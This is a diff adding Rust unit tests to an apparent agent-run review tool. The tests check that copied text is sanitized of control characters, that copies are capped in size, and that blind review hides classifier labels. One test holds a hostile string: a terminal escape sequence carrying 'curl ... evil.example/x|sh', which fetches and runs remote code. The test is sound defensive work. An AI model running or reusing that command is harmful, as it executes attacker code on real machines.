@@ -299,6 +299,33 @@ fn copy_takes_the_action_of_the_step_or_the_whole_step() {
 }
 
 #[test]
+fn what_is_copied_is_what_is_shown_and_bounded() {
+    let mut app = app_with_runs();
+    app.update(Action::RunLoaded(Box::new(run_data(2, 3))));
+    let hostile = "git status \u{1b}]0;$(curl -s http://evil.example/x|sh)\u{7}";
+    let mut step = body(2, 0);
+    step.step.action = hostile.into();
+    app.update(Action::StepLoaded(Box::new(step)));
+    let effects = cmd(&mut app, C::Copy);
+    let [Effect::Copy(text)] = &effects[..] else { panic!("{effects:?}") };
+    assert!(text.starts_with("git status"), "{text:?}");
+    assert!(!text.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "no control characters: {text:?}");
+    assert_eq!(text.as_str(), crate::sanitize::sanitize(hostile), "the text the screen shows");
+    let status = app.status.as_ref().map(|s| s.text.clone()).unwrap_or_default();
+    assert!(status.contains("terminal's clipboard (OSC 52)") && status.contains("as shown"), "{status}");
+    // A 50 MB step: the first COPY_LIMIT bytes, and the status says so.
+    let mut huge = body(2, 1);
+    huge.step.observation = "é".repeat(400 * 1024);
+    app.update(Action::StepLoaded(Box::new(huge)));
+    cmd(&mut app, C::Down);
+    let effects = cmd(&mut app, C::CopyStep);
+    let [Effect::Copy(text)] = &effects[..] else { panic!("{effects:?}") };
+    assert!(text.len() <= super::COPY_LIMIT && text.len() > super::COPY_LIMIT - 4, "{}", text.len());
+    let status = app.status.as_ref().map(|s| s.text.clone()).unwrap_or_default();
+    assert!(status.contains("cut to the first 256 KiB of 801 KiB"), "{status}");
+}
+
+#[test]
 fn panels_cycle_and_scroll_is_clamped_by_the_viewport() {
     let mut app = app_in_run(5);
     cmd(&mut app, C::NextPanel);
@@ -507,6 +534,32 @@ fn queues_and_the_next_unlabelled_run() {
     app.update(Action::RunLoaded(Box::new(run_data(3, 4))));
     assert!(cmd(&mut app, C::NextUnlabelled).is_empty());
     assert!(app.status.as_ref().is_some_and(|s| s.text.contains("every one of the failed runs")));
+}
+
+#[test]
+fn the_label_filter_is_blind_too() {
+    use crate::classify::label::Source;
+    let mut app = app_with_runs();
+    app.review.rater = "ann".into();
+    let flooding = (Source::Heuristic, "heuristic".to_string(), vec!["context_flooding".to_string()]);
+    let not_mine = crate::review::ReviewState { labels: vec![flooding.clone()], ..Default::default() };
+    let mine_too = crate::review::ReviewState {
+        mine: true,
+        labels: vec![flooding, (Source::Human, "ann".into(), Vec::new())],
+        ..Default::default()
+    };
+    app.update(Action::ReviewLoaded([(2, not_mine), (3, mine_too)].into_iter().collect()));
+    cmd(&mut app, C::Filter);
+    type_text(&mut app, "label:context_flooding");
+    app.update(Action::InputSubmit);
+    let shown = |app: &App| app.list.visible.iter().map(|&i| app.list.runs[i].id).collect::<Vec<_>>();
+    assert_eq!(shown(&app), [3], "run 2's classifier label stays hidden until ann labels it");
+    app.review.blind = false;
+    let states = app.review.states.clone();
+    app.update(Action::ReviewLoaded(states));
+    let mut ids = shown(&app);
+    ids.sort_unstable();
+    assert_eq!(ids, [2, 3]);
 }
 
 #[test]
